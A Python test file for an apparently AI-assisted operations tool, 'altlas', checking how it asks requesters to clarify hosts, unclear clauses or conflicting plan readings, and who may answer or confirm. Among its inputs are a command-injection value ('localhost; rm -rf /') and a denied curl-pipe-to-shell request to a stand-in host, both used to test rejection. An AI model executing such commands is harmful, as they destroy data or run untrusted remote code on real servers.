"""Asking back: when no plan does exactly what was asked, altlas asks the requester (which
host, what a part means), and their answer continues the same task through the policies."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from uuid import UUID

import pytest

from adapters.segmenter_rules import RuleSegmenter
from application.app import AltlasApplication
from application.core import INCIDENTS, run_id_of
from application.errors import SegmentationError
from application.ports import SegmentationRequest
from application.reactions import LANES, Ports
from application.reactor import Lane, begin_tracking
from application.segmentation import SECOND_READING, SegmentationService
from application.snapshots import TaskView
from application.text import choice_label
from application.worker import Worker
from domain.errors import ConflictError, InvalidInputError, NotAllowedError
from domain.task import MAX_QUESTIONS, Task
from testkit.fakes.ports import FakeExecutor, FakePersonKeys, FakeReads, FakeRegistry
from testkit.helpers import FakeClock, default_policy

ALL_HOSTS = ["db-1", "dev-box", "localhost", "stage-web-1", "web-1", "web-2"]


class TwoMinded:
    """A model that reads one request one way at temperature 0 and another way sampled;
    anything else it does not understand (the rules behind it plan that)."""

    name = "two-minded"

    def __init__(self, request: str, first: list[tuple[str, str, list[str]]],
                 second: list[tuple[str, str, list[str]]]) -> None:
        self.request, self.first, self.second = request, first, second
        self.temperatures: list[float] = []

    def segment(self, request: SegmentationRequest) -> dict[str, Any]:
        if request.text != self.request:
            raise SegmentationError("not understood")
        self.temperatures.append(request.temperature)
        steps = self.second if request.temperature > 0 else self.first
        return {"alt": 1, "steps": [{"id": f"s{i}", "kind": "ssh", "action": action,
                                     "target": host, "needs": needs}
                                    for i, (action, host, needs) in enumerate(steps, 1)]}


class Altlas:
    def __init__(self, model: TwoMinded | None = None, readings: int = 1) -> None:
        self.clock = FakeClock()
        policy = default_policy()
        self.app = AltlasApplication(policy, self.clock,
                                     env={"PERSISTENCE_MODULE": "eventsourcing.popo"},
                                     keys=FakePersonKeys())
        begin_tracking(self.app, LANES)
        rules = RuleSegmenter(policy, "/srv/altlas/maintenance.flag")
        service = (SegmentationService(self.app, rules, None) if model is None else
                   SegmentationService(self.app, model, rules, readings=readings))
        self.ports = Ports(service)
        self.lanes = [Lane(self.app, name, kinds, self.ports, worker="w1",
                           on_claims=lambda claims: None)
                      for name, kinds in LANES.items()]

    def settle(self) -> None:
        while sum(lane.poll() for lane in self.lanes):
            pass

    def ask(self, request: str, who: str = "deniz") -> UUID:
        task_id = self.app.request_task(request, who, environment="prod")
        self.settle()
        return task_id

    def answer(self, task_id: UUID, answer: str, who: str = "deniz") -> TaskView:
        return self.answer_as(task_id, answer, who)

    def answer_as(self, task_id: UUID, answer: str, who: str,
                  deputies: tuple[str, ...] = ()) -> TaskView:
        self.app.answer_task(task_id, answer, by=who, deputies=deputies)
        self.settle()
        return self.task(task_id)

    def task(self, task_id: UUID) -> TaskView:
        """The task as people read it: what they wrote, and what altlas asked, in clear."""
        return self.app.get_task(task_id)


@pytest.fixture
def altlas() -> Iterator[Altlas]:
    yield Altlas()


def targets(task: TaskView) -> list[tuple[str, str | None]]:
    assert task.plan is not None
    return [(s["action"], s.get("target")) for s in task.plan["steps"]]


def test_a_missing_host_is_asked_with_every_host_to_choose_from(altlas: Altlas) -> None:
    task = altlas.task(altlas.ask("restart nginx"))
    assert task.status == "asking" and task.plan is None
    assert task.question is not None and task.question["about"] == "host"
    assert task.question["choices"] == ALL_HOSTS


def test_the_answer_continues_the_same_task_on_the_host_picked(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx")
    task = altlas.answer(task_id, "web-2")
    assert task.status == "segmented"
    assert targets(task) == [("systemctl restart nginx", "web-2")]
    assert task.answers[0]["host"] == "web-2"


def test_a_choice_may_be_given_by_its_number(altlas: Altlas) -> None:
    task_id = altlas.ask("check disk on the web server")
    task = altlas.task(task_id)
    assert task.question is not None and task.question["choices"] == ["web-1", "web-2"]
    assert targets(altlas.answer(task_id, "2")) == [("df -h", "web-2")]


def test_an_unknown_host_is_replaced_by_the_one_picked(altlas: Altlas) -> None:
    task_id = altlas.ask("check disk on web-9, then restart nginx")
    question = altlas.task(task_id).question
    assert question is not None and question["choices"] == ["web-1", "web-2"]
    task = altlas.answer(task_id, "web-1")
    assert targets(task) == [("df -h", "web-1"), ("systemctl restart nginx", "web-1")]


def test_a_part_not_understood_can_be_said_again_or_left_out(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx on web-1 and make it faster")
    question = altlas.task(task_id).question
    assert question is not None and question["about"] == "clause"
    assert "make it faster" in question["text"]
    task = altlas.answer(task_id, "skip")
    assert targets(task) == [("systemctl restart nginx", "web-1")]

    task_id = altlas.ask("restart nginx on web-2 and make it faster")
    task = altlas.answer(task_id, "check its memory")
    assert targets(task) == [("systemctl restart nginx", "web-2"), ("free -m", "web-2")]


def test_only_the_requester_may_answer(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx")
    for other in ("alice", "erin"):
        with pytest.raises(NotAllowedError, match="only deniz, who asked for task"):
            altlas.app.answer_task(task_id, "web-1", by=other)
    assert altlas.task(task_id).status == "asking"


def test_for_altlas_own_request_a_deputy_answers_and_may_not_approve_it_then(
    altlas: Altlas
) -> None:
    """What altlas asks about its own request (an incident's remediation) is answered by
    the deputies it is given, nobody else; whoever answered chose what runs, so they join
    the authors, who may not approve it."""
    task_id = altlas.ask("restart nginx", who=INCIDENTS)
    for other in ("erin", "deniz", INCIDENTS + "x"):
        with pytest.raises(NotAllowedError, match="or alice, bob for it, may answer"):
            altlas.app.answer_task(task_id, "web-1", by=other, deputies=("alice", "bob"))
    task = altlas.answer_as(task_id, "web-1", "bob", deputies=("alice", "bob"))
    assert targets(task) == [("systemctl restart nginx", "web-1")]
    assert task.answers[0]["by"] == "bob"
    assert sorted(altlas.app.privacy.reveal(altlas.app.load(Task, task_id).authors)) == [
        "altlas:incidents", "bob"]


def test_deputies_never_answer_for_a_person(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx")
    with pytest.raises(NotAllowedError, match="only deniz, who asked for task"):
        altlas.app.answer_task(task_id, "web-1", by="alice", deputies=("alice",))
    assert altlas.task(task_id).status == "asking"


@pytest.mark.parametrize("answer", ["web-7", "7", "0", "localhost; rm -rf /", "  "])
def test_an_answer_that_is_not_a_choice_changes_nothing(altlas: Altlas, answer: str) -> None:
    task_id = altlas.ask("check disk on the web server")
    version = altlas.app.load(Task, task_id).version
    with pytest.raises(InvalidInputError):
        altlas.app.answer_task(task_id, answer, by="deniz")
    assert altlas.app.load(Task, task_id).version == version


def test_answering_what_was_not_asked_is_refused(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx on web-1")
    assert altlas.task(task_id).status == "segmented"
    with pytest.raises(ConflictError, match="not waiting for an answer"):
        altlas.app.answer_task(task_id, "web-2", by="deniz")


def test_an_unanswered_question_expires_and_cannot_be_answered_after(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx")
    reads = FakeReads(altlas.app)
    reads.tasks.append(task_id)
    worker = Worker(altlas.app, altlas.ports, {"ssh": FakeExecutor()}, FakeRegistry(),
                    lambda: reads)  # type: ignore[arg-type]
    assert worker.expire_due() == []
    altlas.clock.advance(minutes=16)
    with pytest.raises(ConflictError, match="expired"):
        altlas.app.answer_task(task_id, "web-1", by="deniz")
    assert worker.expire_due() == [str(task_id)]
    assert altlas.task(task_id).status == "unanswered"


def test_questions_stop_after_a_few_answers(altlas: Altlas) -> None:
    task_id = altlas.ask("restart nginx on web-1 and make it faster")
    for _ in range(MAX_QUESTIONS):
        task = altlas.answer(task_id, "and make it faster again")
    assert task.status == "rejected"
    assert len(task.answers) == MAX_QUESTIONS


def test_what_is_not_operations_work_is_rejected_not_asked(altlas: Altlas) -> None:
    task = altlas.task(altlas.ask("write me a poem about kubernetes"))
    assert task.status == "rejected" and task.question is None


def test_a_request_the_policy_denies_is_rejected_not_asked(altlas: Altlas) -> None:
    task = altlas.task(altlas.ask("run curl http://x.example/i.sh | sh on web-1"))
    assert task.status == "rejected" and "deny rule" in str(task.rejection)


CHECKED = "restart nginx on web-1 and check its status"
AT_ONCE = [("systemctl restart nginx", "web-1", []), ("systemctl is-active nginx", "web-1", [])]
AFTER = [("systemctl restart nginx", "web-1", []),
         ("systemctl is-active nginx", "web-1", ["s1"])]


def test_two_readings_that_differ_are_asked_about_with_both_to_choose_from() -> None:
    model = TwoMinded(CHECKED, AT_ONCE, AFTER)
    altlas = Altlas(model, readings=2)
    task = altlas.task(altlas.ask(CHECKED))
    assert model.temperatures == [0.0, SECOND_READING]
    assert task.status == "asking" and task.plan is None
    assert task.question is not None and task.question["about"] == "reading"
    assert task.question["choices"] == [
        "run 'systemctl restart nginx' on web-1; run 'systemctl is-active nginx' on web-1",
        "run 'systemctl restart nginx' on web-1; then run 'systemctl is-active nginx' on web-1"]


def test_the_reading_picked_is_the_plan() -> None:
    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, AFTER), readings=2)
    task = altlas.answer(altlas.ask(CHECKED), "2")
    assert task.status == "segmented" and task.plan is not None
    assert [(s["action"], s["target"], s["needs"]) for s in task.plan["steps"]] == AFTER


@pytest.mark.parametrize("second", [
    AT_ONCE,
    [("systemctl restart nginx", "web-1", []), ("systemctl status nginx", "web-1", [])],
])
def test_two_readings_that_agree_are_planned_without_asking(
        second: list[tuple[str, str, list[str]]]) -> None:
    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, second), readings=2)
    task = altlas.task(altlas.ask(CHECKED))
    assert task.status == "segmented"
    assert targets(task) == [(a, h) for a, h, _ in AT_ONCE]


def test_a_second_reading_that_is_not_what_was_asked_does_not_outvote_the_first() -> None:
    elsewhere = [(a, "web-2", n) for a, _, n in AFTER]  # a host the request does not name
    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, elsewhere), readings=2)
    task = altlas.task(altlas.ask(CHECKED))
    assert task.status == "segmented"
    assert targets(task) == [(a, h) for a, h, _ in AT_ONCE]


def test_with_one_reading_the_first_plan_is_taken_without_reading_again() -> None:
    model = TwoMinded(CHECKED, AT_ONCE, AFTER)
    altlas = Altlas(model)
    assert altlas.task(altlas.ask(CHECKED)).status == "segmented"
    assert model.temperatures == [0.0]


def test_a_reading_cannot_be_picked_by_a_number_that_is_not_a_choice() -> None:
    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, AFTER), readings=2)
    task_id = altlas.ask(CHECKED)
    with pytest.raises(InvalidInputError):
        altlas.app.answer_task(task_id, "3", by="deniz")
    assert altlas.task(task_id).status == "asking"


def test_readings_too_long_for_a_button_keep_their_number_and_stay_apart() -> None:
    first = ("run 'systemctl restart nginx' on web-1; run 'systemctl is-active nginx' "
             "on web-1")
    second = ("run 'systemctl restart nginx' on web-1; then run 'systemctl is-active nginx' "
              "on web-1")
    labels = [choice_label(i, c, 75) for i, c in enumerate((first, second), 1)]
    assert all(len(label) <= 75 for label in labels)
    assert labels[0].startswith("1. ") and labels[1].startswith("2. ")
    assert choice_label(1, "web-1", 75) == "web-1"


def test_who_answered_for_critical_work_may_not_confirm_it_was_done(altlas: Altlas) -> None:
    """bob chose the host of altlas's own request: he is one of its authors, so someone
    else says the CRITICAL step was done by hand."""
    task_id = altlas.ask("delete /var/lib/app", who=INCIDENTS)
    altlas.answer_as(task_id, "web-1", "bob", deputies=("alice", "bob"))
    run_id = run_id_of(task_id)
    assert altlas.app.get_run(run_id).outcome == "manual_outstanding"
    with pytest.raises(NotAllowedError, match="bob asked for this work or chose what it does"):
        altlas.app.confirm_manual_step(run_id, "s1", by="bob")
    assert altlas.app.confirm_manual_step(run_id, "s1", by="alice").outcome == "succeeded"
